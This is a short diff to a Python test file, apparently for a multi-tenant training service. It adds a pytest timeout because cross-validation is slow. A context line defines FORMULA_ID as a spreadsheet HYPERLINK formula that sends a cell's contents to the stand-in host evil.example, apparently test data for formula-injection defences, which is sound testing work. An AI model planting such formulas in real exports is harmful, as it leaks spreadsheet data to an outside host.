@@ -32,6 +32,10 @@ from models.training import TrainParams
 from store.tenants import get_tenant, rotate_keys, update_tenant
 from tests.synth_world import World, make_world
 
+# Training a small tenant cross-validates its candidates (models/training/selection.py):
+# minutes on a busy shared 2-core machine.
+pytestmark = pytest.mark.timeout(1200)
+
 FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1)'
 OPT_OUT_VALUES = ["yes", "Y", "1", "true", "no", "", "0", "no", "no", "no"]
 DAY = 86400.0
